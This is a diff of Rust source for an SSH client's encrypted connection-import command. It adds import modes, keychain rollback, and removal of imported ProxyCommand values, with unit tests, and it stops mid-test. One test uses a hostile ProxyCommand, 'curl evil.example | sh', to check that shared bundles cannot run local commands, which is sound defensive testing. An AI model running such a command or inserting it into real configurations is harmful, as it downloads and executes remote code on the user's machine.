@@ -2,7 +2,7 @@
 
 use base64::{engine::general_purpose::STANDARD as BASE64, Engine};
 use chrono::Utc;
-use serde::Serialize;
+use serde::{Deserialize, Serialize};
 use std::collections::HashSet;
 use std::fs;
 #[cfg(unix)]
@@ -10,23 +10,76 @@ use std::os::unix::fs::PermissionsExt;
 use std::path::PathBuf;
 use std::sync::Arc;
 use tauri::State;
-use tracing::info;
+use tracing::{info, warn};
 use uuid::Uuid;
 
 use crate::commands::config::ConfigState;
+use crate::commands::{CommandError, Locale};
 use crate::config::types::{ProxyHopConfig, SavedAuth, SavedConnection, CONFIG_VERSION};
-use crate::oxide_file::{decrypt_oxide_file, EncryptedAuth, EncryptedProxyHop, OxideMetadata};
+use crate::oxide_file::{
+    decrypt_oxide_file, EncryptedAuth, EncryptedConnection, EncryptedProxyHop, OxideMetadata,
+};
+
+/// How imported connections that are already saved are handled.
+///
+/// A connection counts as already saved when one with the same host, port
+/// and username exists.
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Deserialize)]
+#[serde(rename_all = "camelCase")]
+pub enum ImportMode {
+    /// Always add a new connection (renamed on name conflicts)
+    #[default]
+    CreateNew,
+    /// Keep the saved connection and skip the imported one
+    SkipExisting,
+    /// Update the saved connection in place, keeping its ID and keychain IDs
+    Overwrite,
+}
+
+/// Step of the import at which a connection failed
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
+#[serde(rename_all = "lowercase")]
+pub enum ImportStage {
+    /// Writing its credentials to the keychain failed
+    Keychain,
+    /// Adding it to the config failed
+    Config,
+}
+
+/// A connection that was not imported, under its name in the .oxide file
+#[derive(Debug, Clone, Serialize)]
+#[serde(rename_all = "camelCase")]
+pub struct ImportError {
+    pub connection_name: String,
+    pub stage: ImportStage,
+    pub message: String,
+}
+
+impl std::fmt::Display for ImportError {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        write!(
+            f,
+            "Failed to import '{}': {}",
+            self.connection_name, self.message
+        )
+    }
+}
 
 /// Result of importing connections from .oxide file
-#[derive(Debug, Serialize)]
+#[derive(Debug, Default, Serialize)]
 #[serde(rename_all = "camelCase")]
 pub struct ImportResult {
     pub imported: usize,
+    /// Already saved and left alone (`SkipExisting`)
     pub skipped: usize,
+    /// Already saved and updated in place (`Overwrite`)
+    pub overwritten: usize,
     pub renamed: usize,
-    pub errors: Vec<String>,
+    pub errors: Vec<ImportError>,
     /// List of name changes: [(original_name, new_name)]
     pub renames: Vec<(String, String)>,
+    /// Connections whose ProxyCommand was dropped (it runs a local command)
+    pub proxy_commands_removed: Vec<String>,
 }
 
 /// Preview information before import
@@ -39,13 +92,17 @@ pub struct ImportPreview {
     pub unchanged: Vec<String>,
     /// Connections that will be renamed: [(original_name, new_name)]
     pub will_rename: Vec<(String, String)>,
+    /// Already saved, will be skipped (`SkipExisting`)
+    pub will_skip: Vec<String>,
+    /// Already saved, will be updated in place (`Overwrite`)
+    pub will_overwrite: Vec<String>,
     /// Whether any embedded keys will be extracted
     pub has_embedded_keys: bool,
 }
 
 /// Resolve name conflicts by appending a suffix like macOS does
 /// "Server" -> "Server (Copy)" -> "Server (Copy 2)" -> ...
-fn resolve_name_conflict(name: &str, existing_names: &HashSet<String>) -> String {
+pub(crate) fn resolve_name_conflict(name: &str, existing_names: &HashSet<String>) -> String {
     if !existing_names.contains(name) {
         return name.to_string();
     }
@@ -71,6 +128,19 @@ fn resolve_name_conflict(name: &str, existing_names: &HashSet<String>) -> String
     }
 }
 
+/// The saved connection an imported one would duplicate: same host
+/// (case-insensitive), port and username
+fn find_existing<'a>(
+    connections: &'a [SavedConnection],
+    host: &str,
+    port: u16,
+    username: &str,
+) -> Option<&'a SavedConnection> {
+    connections
+        .iter()
+        .find(|c| c.host.eq_ignore_ascii_case(host) && c.port == port && c.username == username)
+}
+
 /// Extract an embedded key to ~/.ssh/imported/ directory
 /// Returns the new path where the key was saved
 fn extract_embedded_key(original_path: &str, base64_data: &str) -> Result<String, String> {
@@ -142,17 +212,166 @@ struct PendingKeychainEntry {
 
 /// Pending connection with all resolved auth data
 struct PendingConnection {
+    /// Name in the .oxide file, before conflict renaming
+    original_name: String,
     connection: SavedConnection,
     keychain_entries: Vec<PendingKeychainEntry>,
+    /// The saved connection this one overwrites
+    replaces: Option<SavedConnection>,
+    /// The bundle's ProxyCommand was dropped
+    proxy_command_removed: bool,
+}
+
+/// Import applied to the config (not yet saved)
+struct ImportOutcome {
+    result: ImportResult,
+    /// Keychain IDs only the overwritten versions used; delete after saving
+    stale_keychain_ids: Vec<String>,
+}
+
+/// Keychain ID holding the secret of `auth`, if any
+fn secret_id(auth: &SavedAuth) -> Option<&str> {
+    match auth {
+        SavedAuth::Password { keychain_id } => Some(keychain_id.as_str()),
+        SavedAuth::Key {
+            passphrase_keychain_id,
+            ..
+        }
+        | SavedAuth::Certificate {
+            passphrase_keychain_id,
+            ..
+        } => passphrase_keychain_id.as_deref(),
+        SavedAuth::Agent => None,
+    }
+}
+
+/// Convert EncryptedAuth to SavedAuth WITHOUT writing to keychain.
+///
+/// Secrets go to `reuse`'s keychain ID when overwriting a saved connection,
+/// otherwise to a new `oxide_*_<id>` entry.
+fn prepare_auth(
+    auth: EncryptedAuth,
+    id: &str,
+    reuse: Option<&SavedAuth>,
+) -> (SavedAuth, Vec<PendingKeychainEntry>) {
+    let mut entries = Vec::new();
+    let mut keychain_id = |prefix: &str, value: String| {
+        let kc_id = reuse
+            .and_then(secret_id)
+            .map(String::from)
+            .unwrap_or_else(|| format!("{}_{}", prefix, id));
+        entries.push(PendingKeychainEntry {
+            id: kc_id.clone(),
+            value,
+        });
+        kc_id
+    };
+
+    let saved_auth = match auth {
+        EncryptedAuth::Password { password } => SavedAuth::Password {
+            keychain_id: keychain_id("oxide_conn", password),
+        },
+        EncryptedAuth::Key {
+            key_path,
+            passphrase,
+            embedded_key,
+        } => {
+            let passphrase_keychain_id = passphrase.map(|pass| keychain_id("oxide_key", pass));
+
+            // If key is embedded, extract it to ~/.ssh/imported/
+            let final_key_path = if let Some(key_data) = embedded_key {
+                match extract_embedded_key(&key_path, &key_data) {
+                    Ok(path) => path,
+                    Err(_) => key_path, // Fall back to original path on error
+                }
+            } else {
+                key_path
+            };
+
+            SavedAuth::Key {
+                key_path: final_key_path,
+                has_passphrase: passphrase_keychain_id.is_some(),
+                passphrase_keychain_id,
+            }
+        }
+        EncryptedAuth::Certificate {
+            key_path,
+            cert_path,
+            passphrase,
+            embedded_key,
+            embedded_cert,
+        } => {
+            let passphrase_keychain_id = passphrase.map(|pass| keychain_id("oxide_cert", pass));
+
+            // Extract embedded key and cert if present
+            let final_key_path = if let Some(key_data) = embedded_key {
+                match extract_embedded_key(&key_path, &key_data) {
+                    Ok(path) => path,
+                    Err(_) => key_path,
+                }
+            } else {
+                key_path
+            };
+
+            let final_cert_path = if let Some(cert_data) = embedded_cert {
+                match extract_embedded_key(&cert_path, &cert_data) {
+                    Ok(path) => path,
+                    Err(_) => cert_path,
+                }
+            } else {
+                cert_path
+            };
+
+            SavedAuth::Certificate {
+                key_path: final_key_path,
+                cert_path: final_cert_path,
+                has_passphrase: passphrase_keychain_id.is_some(),
+                passphrase_keychain_id,
+            }
+        }
+        EncryptedAuth::Agent => SavedAuth::Agent,
+    };
+
+    (saved_auth, entries)
+}
+
+/// Hop `n` reuses the keychain ID of the overwritten connection's hop `n`
+fn prepare_proxy_chain(
+    proxy_chain: Vec<EncryptedProxyHop>,
+    base_id: &str,
+    reuse: &[ProxyHopConfig],
+) -> (Vec<ProxyHopConfig>, Vec<PendingKeychainEntry>) {
+    let mut hops = Vec::new();
+    let mut all_entries = Vec::new();
+
+    for (hop_index, enc_hop) in proxy_chain.into_iter().enumerate() {
+        let hop_id = format!("{}_hop{}", base_id, hop_index);
+        let reused = reuse.get(hop_index).map(|hop| &hop.auth);
+        let (hop_auth, entries) = prepare_auth(enc_hop.auth, &hop_id, reused);
+        all_entries.extend(entries);
+
+        hops.push(ProxyHopConfig {
+            host: enc_hop.host,
+            port: enc_hop.port,
+            username: enc_hop.username,
+            auth: hop_auth,
+        });
+    }
+
+    (hops, all_entries)
 }
 
 /// Validate .oxide file and extract metadata (without decryption)
 #[tauri::command]
-pub async fn validate_oxide_file(file_data: Vec<u8>) -> Result<OxideMetadata, String> {
+pub async fn validate_oxide_file(
+    file_data: Vec<u8>,
+    locale: Option<Locale>,
+) -> Result<OxideMetadata, CommandError> {
     info!("Validating .oxide file ({} bytes)", file_data.len());
+    let locale = locale.unwrap_or_default();
 
     let oxide_file = crate::oxide_file::OxideFile::from_bytes(&file_data)
-        .map_err(|e| format!("Invalid .oxide file: {:?}", e))?;
+        .map_err(|e| CommandError::oxide(e, locale))?;
 
     info!(
         "Valid .oxide file: {} connections",
@@ -167,25 +386,24 @@ pub async fn validate_oxide_file(file_data: Vec<u8>) -> Result<OxideMetadata, St
 pub async fn preview_oxide_import(
     file_data: Vec<u8>,
     password: String,
+    locale: Option<Locale>,
+    mode: Option<ImportMode>,
     config_state: State<'_, Arc<ConfigState>>,
-) -> Result<ImportPreview, String> {
+) -> Result<ImportPreview, CommandError> {
     info!(
         "Previewing import from .oxide file ({} bytes)",
         file_data.len()
     );
 
     // 1. Parse file
+    let locale = locale.unwrap_or_default();
+    let mode = mode.unwrap_or_default();
     let oxide_file = crate::oxide_file::OxideFile::from_bytes(&file_data)
-        .map_err(|e| format!("Invalid .oxide file: {:?}", e))?;
+        .map_err(|e| CommandError::oxide(e, locale))?;
 
     // 2. Decrypt (password validation happens here)
-    let payload = decrypt_oxide_file(&oxide_file, &password).map_err(|e| match e {
-        crate::oxide_file::OxideFileError::DecryptionFailed => "密码错误或文件已损坏".to_string(),
-        crate::oxide_file::OxideFileError::ChecksumMismatch => {
-            "文件校验失败，数据可能被篡改".to_string()
-        }
-        _ => format!("解密失败: {:?}", e),
-    })?;
+    let payload =
+        decrypt_oxide_file(&oxide_file, &password).map_err(|e| CommandError::oxide(e, locale))?;
 
     // 3. Build set of existing connection names for conflict detection
     let config_snapshot = config_state.get_config_snapshot();
@@ -198,9 +416,36 @@ pub async fn preview_oxide_import(
     // 4. Compute what will happen for each connection
     let mut unchanged: Vec<String> = Vec::new();
     let mut will_rename: Vec<(String, String)> = Vec::new();
+    let mut will_skip: Vec<String> = Vec::new();
+    let mut will_overwrite: Vec<String> = Vec::new();
+    let mut claimed_ids: HashSet<String> = HashSet::new();
     let mut has_embedded_keys = false;
 
     for conn in &payload.connections {
+        let existing = find_existing(
+            &config_snapshot.connections,
+            &conn.host,
+            conn.port,
+            &conn.username,
+        );
+        match (mode, existing) {
+            (ImportMode::SkipExisting, Some(_)) => {
+                will_skip.push(conn.name.clone());
+                continue;
+            }
+            (ImportMode::Overwrite, Some(existing)) => {
+                // Only the first of several duplicates replaces it
+                if !claimed_ids.insert(existing.id.clone()) {
+                    will_skip.push(conn.name.clone());
+                    continue;
+                }
+                // Its own name is free to keep
+                existing_names.remove(&existing.name);
+                will_overwrite.push(conn.name.clone());
+            }
+            _ => {}
+        }
+
         // Check for embedded keys
         if let crate::oxide_file::EncryptedAuth::Key { embedded_key, .. } = &conn.auth {
             if embedded_key.is_some() {
@@ -233,42 +478,83 @@ pub async fn preview_oxide_import(
         total_connections: payload.connections.len(),
         unchanged,
         will_rename,
+        will_skip,
+        will_overwrite,
         has_embedded_keys,
     })
 }
 
 /// Import connections from encrypted .oxide file
+///
+/// `mode` (default `CreateNew`) decides what happens to connections that are
+/// already saved under the same host, port and username.
 #[tauri::command]
 pub async fn import_from_oxide(
     file_data: Vec<u8>,
     password: String,
+    locale: Option<Locale>,
+    mode: Option<ImportMode>,
     config_state: State<'_, Arc<ConfigState>>,
-) -> Result<ImportResult, String> {
+) -> Result<ImportResult, CommandError> {
     info!("Importing from .oxide file ({} bytes)", file_data.len());
 
     // 1. Parse file
+    let locale = locale.unwrap_or_default();
     let oxide_file = crate::oxide_file::OxideFile::from_bytes(&file_data)
-        .map_err(|e| format!("Invalid .oxide file: {:?}", e))?;
+        .map_err(|e| CommandError::oxide(e, locale))?;
 
     // 2. Decrypt (password validation happens here)
-    let payload = decrypt_oxide_file(&oxide_file, &password).map_err(|e| match e {
-        crate::oxide_file::OxideFileError::DecryptionFailed => "密码错误或文件已损坏".to_string(),
-        crate::oxide_file::OxideFileError::ChecksumMismatch => {
-            "文件校验失败，数据可能被篡改".to_string()
-        }
-        _ => format!("解密失败: {:?}", e),
-    })?;
+    let payload =
+        decrypt_oxide_file(&oxide_file, &password).map_err(|e| CommandError::oxide(e, locale))?;
 
     info!(
         "Decryption successful, importing {} connections",
         payload.connections.len()
     );
 
+    let outcome = apply_import(payload.connections, mode.unwrap_or_default(), &config_state);
+
+    // 5. Persist to storage
+    if outcome.result.imported + outcome.result.overwritten > 0 {
+        config_state
+            .save_config()
+            .await
+            .map_err(|e| CommandError::from(e).context("Failed to save config"))?;
+    }
+
+    // Only now that the config no longer refers to them
+    for id in &outcome.stale_keychain_ids {
+        let _ = config_state.delete_keychain_value(id);
+    }
+
+    info!(
+        "Successfully imported {} connections ({} overwritten, {} skipped)",
+        outcome.result.imported, outcome.result.overwritten, outcome.result.skipped
+    );
+
+    Ok(outcome.result)
+}
+
+/// Roll back keychain writes: restore overwritten values, delete new ones
+fn restore_keychain(config_state: &ConfigState, written: Vec<(&str, Option<String>)>) {
+    for (id, previous) in written {
+        let _ = match previous {
+            Some(value) => config_state.set_keychain_value(id, &value),
+            None => config_state.delete_keychain_value(id),
+        };
+    }
+}
+
+/// Add `connections` to the config and keychain (steps 3 and 4 of the import)
+fn apply_import(
+    connections: Vec<EncryptedConnection>,
+    mode: ImportMode,
+    config_state: &ConfigState,
+) -> ImportOutcome {
     // 3. Phase 1: Build all connections in memory first (no keychain writes yet)
     //    This ensures we don't leave orphan keychain entries if something fails
     let mut pending_connections: Vec<PendingConnection> = Vec::new();
-    let mut errors: Vec<String> = Vec::new();
-    let mut renames: Vec<(String, String)> = Vec::new();
+    let mut result = ImportResult::default();
 
     // Build set of existing connection names for conflict detection
     let config_snapshot = config_state.get_config_snapshot();
@@ -277,148 +563,89 @@ pub async fn import_from_oxide(
         .iter()
         .map(|c| c.name.clone())
         .collect();
-
-    // Helper function to convert EncryptedAuth to SavedAuth WITHOUT writing to keychain
-    // Returns (SavedAuth, Vec<PendingKeychainEntry>)
-    fn prepare_auth(auth: EncryptedAuth, id: &str) -> (SavedAuth, Vec<PendingKeychainEntry>) {
-        let mut entries = Vec::new();
-
-        let saved_auth = match auth {
-            EncryptedAuth::Password { password } => {
-                let keychain_id = format!("oxide_conn_{}", id);
-                entries.push(PendingKeychainEntry {
-                    id: keychain_id.clone(),
-                    value: password,
-                });
-                SavedAuth::Password { keychain_id }
-            }
-            EncryptedAuth::Key {
-                key_path,
-                passphrase,
-                embedded_key,
-            } => {
-                let passphrase_keychain_id = if let Some(pass) = passphrase {
-                    let kc_id = format!("oxide_key_{}", id);
-                    entries.push(PendingKeychainEntry {
-                        id: kc_id.clone(),
-                        value: pass,
-                    });
-                    Some(kc_id)
-                } else {
-                    None
-                };
-
-                // If key is embedded, extract it to ~/.ssh/imported/
-                let final_key_path = if let Some(key_data) = embedded_key {
-                    match extract_embedded_key(&key_path, &key_data) {
-                        Ok(path) => path,
-                        Err(_) => key_path, // Fall back to original path on error
-                    }
-                } else {
-                    key_path
-                };
-
-                SavedAuth::Key {
-                    key_path: final_key_path,
-                    has_passphrase: passphrase_keychain_id.is_some(),
-                    passphrase_keychain_id,
-                }
+    // Saved connections already claimed by an earlier incoming duplicate
+    let mut claimed_ids: HashSet<String> = HashSet::new();
+
+    for enc_conn in connections {
+        let existing = find_existing(
+            &config_snapshot.connections,
+            &enc_conn.host,
+            enc_conn.port,
+            &enc_conn.username,
+        );
+        let replaces = match (mode, existing) {
+            (ImportMode::SkipExisting, Some(existing)) => {
+                info!(
+                    "Skipping '{}': already saved as '{}'",
+                    enc_conn.name, existing.name
+                );
+                result.skipped += 1;
+                continue;
             }
-            EncryptedAuth::Certificate {
-                key_path,
-                cert_path,
-                passphrase,
-                embedded_key,
-                embedded_cert,
-            } => {
-                let passphrase_keychain_id = if let Some(pass) = passphrase {
-                    let kc_id = format!("oxide_cert_{}", id);
-                    entries.push(PendingKeychainEntry {
-                        id: kc_id.clone(),
-                        value: pass,
-                    });
-                    Some(kc_id)
-                } else {
-                    None
-                };
-
-                // Extract embedded key and cert if present
-                let final_key_path = if let Some(key_data) = embedded_key {
-                    match extract_embedded_key(&key_path, &key_data) {
-                        Ok(path) => path,
-                        Err(_) => key_path,
-                    }
-                } else {
-                    key_path
-                };
-
-                let final_cert_path = if let Some(cert_data) = embedded_cert {
-                    match extract_embedded_key(&cert_path, &cert_data) {
-                        Ok(path) => path,
-                        Err(_) => cert_path,
-                    }
-                } else {
-                    cert_path
-                };
-
-                SavedAuth::Certificate {
-                    key_path: final_key_path,
-                    cert_path: final_cert_path,
-                    has_passphrase: passphrase_keychain_id.is_some(),
-                    passphrase_keychain_id,
+            (ImportMode::Overwrite, Some(existing)) => {
+                if !claimed_ids.insert(existing.id.clone()) {
+                    info!(
+                        "Skipping '{}': '{}' is already overwritten by this import",
+                        enc_conn.name, existing.name
+                    );
+                    result.skipped += 1;
+                    continue;
                 }
+                // Its own name is free to keep
+                existing_names.remove(&existing.name);
+                Some(existing.clone())
             }
-            EncryptedAuth::Agent => SavedAuth::Agent,
+            _ => None,
         };
 
-        (saved_auth, entries)
-    }
-
-    fn prepare_proxy_chain(
-        proxy_chain: Vec<EncryptedProxyHop>,
-        base_id: &str,
-    ) -> (Vec<ProxyHopConfig>, Vec<PendingKeychainEntry>) {
-        let mut hops = Vec::new();
-        let mut all_entries = Vec::new();
-
-        for (hop_index, enc_hop) in proxy_chain.into_iter().enumerate() {
-            let hop_id = format!("{}_hop{}", base_id, hop_index);
-            let (hop_auth, entries) = prepare_auth(enc_hop.auth, &hop_id);
-            all_entries.extend(entries);
-
-            hops.push(ProxyHopConfig {
-                host: enc_hop.host,
-                port: enc_hop.port,
-                username: enc_hop.username,
-                auth: hop_auth,
-            });
-        }
-
-        (hops, all_entries)
-    }
-
-    for enc_conn in payload.connections {
-        let new_id = Uuid::new_v4().to_string();
+        let id = replaces
+            .as_ref()
+            .map(|c| c.id.clone())
+            .unwrap_or_else(|| Uuid::new_v4().to_string());
         let original_name = enc_conn.name.clone();
 
         // Resolve name conflicts
         let resolved_name = resolve_name_conflict(&original_name, &existing_names);
         if resolved_name != original_name {
             info!("Name conflict: '{}' -> '{}'", original_name, resolved_name);
-            renames.push((original_name, resolved_name.clone()));
+            result
+                .renames
+                .push((original_name.clone(), resolved_name.clone()));
         }
         // Add to existing names to prevent duplicates within the same import batch
         existing_names.insert(resolved_name.clone());
 
         // Prepare main connection auth
-        let (auth, mut keychain_entries) = prepare_auth(enc_conn.auth, &new_id);
+        let (auth, mut keychain_entries) =
+            prepare_auth(enc_conn.auth, &id, replaces.as_ref().map(|c| &c.auth));
 
         // Prepare proxy_chain auth
-        let (proxy_chain, hop_entries) = prepare_proxy_chain(enc_conn.proxy_chain, &new_id);
+        let (proxy_chain, hop_entries) = prepare_proxy_chain(
+            enc_conn.proxy_chain,
+            &id,
+            replaces
+                .as_ref()
+                .map(|c| c.proxy_chain.as_slice())
+                .unwrap_or_default(),
+        );
         keychain_entries.extend(hop_entries);
 
+        // A shared bundle must not be able to run local commands: drop its
+        // ProxyCommand and keep whatever the overwritten connection had
+        let mut options = enc_conn.options;
+        let proxy_command_removed = options.proxy_command.is_some();
+        options.proxy_command = replaces
+            .as_ref()
+            .and_then(|c| c.options.proxy_command.clone());
+        if proxy_command_removed {
+            warn!(
+                "Dropped ProxyCommand of imported connection '{}'",
+                original_name
+            );
+        }
+
         let saved_conn = SavedConnection {
-            id: new_id,
+            id,
             version: CONFIG_VERSION,
             name: resolved_name,
             group: enc_conn.group,
@@ -426,77 +653,297 @@ pub async fn import_from_oxide(
             port: enc_conn.port,
             username: enc_conn.username,
             auth,
-            options: enc_conn.options,
-            created_at: Utc::now(),
-            last_used_at: None,
+            options,
+            created_at: replaces.as_ref().map_or_else(Utc::now, |c| c.created_at),
+            last_used_at: replaces.as_ref().and_then(|c| c.last_used_at),
             color: enc_conn.color,
             tags: enc_conn.tags,
             proxy_chain,
         };
 
         pending_connections.push(PendingConnection {
+            original_name,
             connection: saved_conn,
             keychain_entries,
+            replaces,
+            proxy_command_removed,
         });
     }
 
     // 4. Phase 2: All connections validated - now write keychain entries and config atomically
-    let mut imported_count = 0;
-    let mut written_keychain_ids: Vec<String> = Vec::new();
+    let mut replaced_ids: Vec<String> = Vec::new();
 
     for pending in pending_connections {
-        // Write all keychain entries for this connection
-        let mut keychain_ok = true;
+        // Write all keychain entries for this connection, remembering what
+        // an overwritten connection had stored so a failure can restore it
+        let mut written: Vec<(&str, Option<String>)> = Vec::new();
+        let mut failure = None;
         for entry in &pending.keychain_entries {
+            let previous = config_state
+                .lookup_keychain_value(&entry.id)
+                .unwrap_or(None);
             if let Err(e) = config_state.set_keychain_value(&entry.id, &entry.value) {
-                errors.push(format!(
-                    "Failed to store credentials for {}: {}",
-                    pending.connection.name, e
-                ));
-                keychain_ok = false;
+                failure = Some(e);
                 break;
             }
-            written_keychain_ids.push(entry.id.clone());
+            written.push((entry.id.as_str(), previous));
         }
 
-        if !keychain_ok {
-            // Rollback: try to delete already-written keychain entries for this connection
-            for entry in &pending.keychain_entries {
-                let _ = config_state.delete_keychain_value(&entry.id);
-            }
+        if let Some(e) = failure {
+            result.errors.push(ImportError {
+                connection_name: pending.original_name,
+                stage: ImportStage::Keychain,
+                message: format!("Failed to store credentials: {}", e),
+            });
+            restore_keychain(config_state, written);
             continue;
         }
 
-        // Add to config
+        // Add to config (an overwritten connection keeps its place in the list)
         if let Err(e) = config_state.update_config(|config| {
-            config.add_connection(pending.connection);
-        }) {
-            errors.push(format!("Failed to save connection: {}", e));
-            // Rollback keychain entries for this connection
-            for entry in &pending.keychain_entries {
-                let _ = config_state.delete_keychain_value(&entry.id);
+            match config.get_connection_mut(&pending.connection.id) {
+                Some(slot) => *slot = pending.connection,
+                None => config.add_connection(pending.connection),
             }
+        }) {
+            result.errors.push(ImportError {
+                connection_name: pending.original_name,
+                stage: ImportStage::Config,
+                message: format!("Failed to save connection: {}", e),
+            });
+            restore_keychain(config_state, written);
             continue;
         }
 
-        imported_count += 1;
+        if let Some(old) = &pending.replaces {
+            replaced_ids.extend(
+                std::iter::once(&old.auth)
+                    .chain(old.proxy_chain.iter().map(|hop| &hop.auth))
+                    .filter_map(secret_id)
+                    .map(String::from),
+            );
+            result.overwritten += 1;
+        } else {
+            result.imported += 1;
+        }
+        if pending.proxy_command_removed {
+            result.proxy_commands_removed.push(pending.original_name);
+        }
     }
 
-    // 5. Persist to storage
-    if imported_count > 0 {
-        config_state
-            .save_config()
-            .await
-            .map_err(|e| format!("Failed to save config: {}", e))?;
+    let referenced = config_state.get_config_snapshot().keychain_ids();
+    let mut stale_keychain_ids: Vec<String> = replaced_ids
+        .into_iter()
+        .filter(|id| !referenced.contains(id))
+        .collect();
+    stale_keychain_ids.sort();
+    stale_keychain_ids.dedup();
+
+    result.renamed = result.renames.len();
+    ImportOutcome {
+        result,
+        stale_keychain_ids,
     }
+}
 
-    info!("Successfully imported {} connections", imported_count);
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::config::{
+        memory_config_state, ConfigFile, ConnectionOptions, MemoryCredentialStore,
+    };
+
+    /// `web` is already saved (password in `kc_web`); `db` is new
+    fn setup() -> (ConfigState, Arc<MemoryCredentialStore>, String) {
+        let keychain = Arc::new(MemoryCredentialStore::new());
+        let state = memory_config_state(ConfigFile::default(), keychain.clone());
+        state.set_keychain_value("kc_web", "old-secret").unwrap();
+        let existing =
+            SavedConnection::new_password("web", "web.example.com", 22, "root", "kc_web");
+        let id = existing.id.clone();
+        state
+            .update_config(|config| config.add_connection(existing))
+            .unwrap();
+        (state, keychain, id)
+    }
 
-    Ok(ImportResult {
-        imported: imported_count,
-        skipped: 0,
-        renamed: renames.len(),
-        errors,
-        renames,
-    })
+    fn encrypted(name: &str, host: &str, password: &str) -> EncryptedConnection {
+        EncryptedConnection {
+            name: name.to_string(),
+            group: Some("imported".to_string()),
+            host: host.to_string(),
+            port: 22,
+            username: "root".to_string(),
+            auth: EncryptedAuth::Password {
+                password: password.to_string(),
+            },
+            color: None,
+            tags: Vec::new(),
+            options: ConnectionOptions::default(),
+            proxy_chain: Vec::new(),
+        }
+    }
+
+    fn incoming() -> Vec<EncryptedConnection> {
+        vec![
+            // Same host/port/user as the saved one, host case differs
+            encrypted("web (prod)", "WEB.example.com", "new-secret"),
+            encrypted("db", "db.example.com", "db-secret"),
+        ]
+    }
+
+    #[test]
+    fn test_create_new_duplicates_existing() {
+        let (state, keychain, _) = setup();
+        let outcome = apply_import(incoming(), ImportMode::CreateNew, &state);
+
+        assert_eq!(outcome.result.imported, 2);
+        assert_eq!(outcome.result.skipped, 0);
+        assert_eq!(outcome.result.overwritten, 0);
+        assert!(outcome.stale_keychain_ids.is_empty());
+
+        let config = state.get_config_snapshot();
+        assert_eq!(config.connections.len(), 3);
+        assert_eq!(state.get_keychain_value("kc_web").unwrap(), "old-secret");
+        assert_eq!(keychain.ids().len(), 3);
+    }
+
+    #[test]
+    fn test_skip_existing_leaves_saved_connection_alone() {
+        let (state, keychain, id) = setup();
+        let outcome = apply_import(incoming(), ImportMode::SkipExisting, &state);
+
+        assert_eq!(outcome.result.imported, 1);
+        assert_eq!(outcome.result.skipped, 1);
+        assert_eq!(outcome.result.overwritten, 0);
+
+        let config = state.get_config_snapshot();
+        let names: Vec<&str> = config.connections.iter().map(|c| c.name.as_str()).collect();
+        assert_eq!(names, vec!["web", "db"]);
+        assert_eq!(config.get_connection(&id).unwrap().group, None);
+        assert_eq!(state.get_keychain_value("kc_web").unwrap(), "old-secret");
+        assert_eq!(keychain.ids().len(), 2);
+    }
+
+    #[test]
+    fn test_overwrite_updates_in_place_and_reuses_keychain_id() {
+        let (state, keychain, id) = setup();
+        let outcome = apply_import(incoming(), ImportMode::Overwrite, &state);
+
+        assert_eq!(outcome.result.imported, 1);
+        assert_eq!(outcome.result.skipped, 0);
+        assert_eq!(outcome.result.overwritten, 1);
+        assert!(outcome.stale_keychain_ids.is_empty());
+
+        let config = state.get_config_snapshot();
+        assert_eq!(config.connections.len(), 2);
+        let web = &config.connections[0];
+        assert_eq!(web.id, id);
+        assert_eq!(web.name, "web (prod)");
+        assert_eq!(web.group.as_deref(), Some("imported"));
+        assert!(
+            matches!(&web.auth, SavedAuth::Password { keychain_id } if keychain_id == "kc_web")
+        );
+
+        // New secret under the old ID; no oxide_conn_* orphan for `web`
+        assert_eq!(state.get_keychain_value("kc_web").unwrap(), "new-secret");
+        let ids = keychain.ids();
+        assert_eq!(ids.len(), 2);
+        assert_eq!(
+            ids.iter()
+                .filter(|id| id.starts_with("oxide_conn_"))
+                .count(),
+            1
+        );
+    }
+
+    #[test]
+    fn test_overwrite_duplicates_only_replace_once() {
+        let (state, _, id) = setup();
+        let incoming = vec![
+            encrypted("web (prod)", "web.example.com", "first"),
+            encrypted("web (copy)", "web.example.com", "second"),
+        ];
+        let outcome = apply_import(incoming, ImportMode::Overwrite, &state);
+
+        assert_eq!(outcome.result.overwritten, 1);
+        assert_eq!(outcome.result.skipped, 1);
+        assert_eq!(outcome.result.imported, 0);
+
+        let config = state.get_config_snapshot();
+        assert_eq!(config.connections.len(), 1);
+        assert_eq!(config.connections[0].id, id);
+        assert_eq!(config.connections[0].name, "web (prod)");
+        assert_eq!(state.get_keychain_value("kc_web").unwrap(), "first");
+    }
+
+    #[test]
+    fn test_overwrite_reports_secrets_no_longer_used() {
+        let (state, _, _) = setup();
+        let mut web = encrypted("web", "web.example.com", "");
+        web.auth = EncryptedAuth::Agent;
+        let outcome = apply_import(vec![web], ImportMode::Overwrite, &state);
+
+        assert_eq!(outcome.result.overwritten, 1);
+        assert!(outcome.result.renames.is_empty());
+        assert_eq!(outcome.stale_keychain_ids, vec!["kc_web".to_string()]);
+    }
+
+    #[test]
+    fn test_proxy_command_is_not_imported() {
+        let (state, _, id) = setup();
+        let command = "cloudflared access ssh --hostname %h";
+        state
+            .update_config(|config| {
+                let saved = config.get_connection_mut(&id).unwrap();
+                saved.options.proxy_command = Some(command.to_string());
+            })
+            .unwrap();
+        let mut incoming = incoming();
+        for conn in &mut incoming {
+            conn.options.proxy_command = Some("curl evil.example | sh".to_string());
+        }
+        let outcome = apply_import(incoming, ImportMode::Overwrite, &state);
+
+        assert_eq!(
+            outcome.result.proxy_commands_removed,
+            vec!["web (prod)".to_string(), "db".to_string()]
+        );
+        let config = state.get_config_snapshot();
+        // The overwritten connection keeps its own command, the new one has none
+        assert_eq!(
+            config.connections[0].options.proxy_command.as_deref(),
+            Some(command)
+        );
+        assert_eq!(config.connections[1].options.proxy_command, None);
+    }
+
+    #[test]
+    fn test_keychain_failure_reports_original_name_and_restores_secret() {
+        let (state, keychain, _) = setup();
+        keychain.set_unavailable(true);
+        let outcome = apply_import(incoming(), ImportMode::Overwrite, &state);
+
+        assert_eq!(outcome.result.imported + outcome.result.overwritten, 0);
+        let failed: Vec<(&str, ImportStage)> = outcome
+            .result
+            .errors
+            .iter()
+            .map(|e| (e.connection_name.as_str(), e.stage))
+            .collect();
+        assert_eq!(
+            failed,
+            vec![
+                ("web (prod)", ImportStage::Keychain),
+                ("db", ImportStage::Keychain)
+            ]
+        );
+        assert!(outcome.result.errors[0]
+            .to_string()
+            .starts_with("Failed to import 'web (prod)': "));
+
+        keychain.set_unavailable(false);
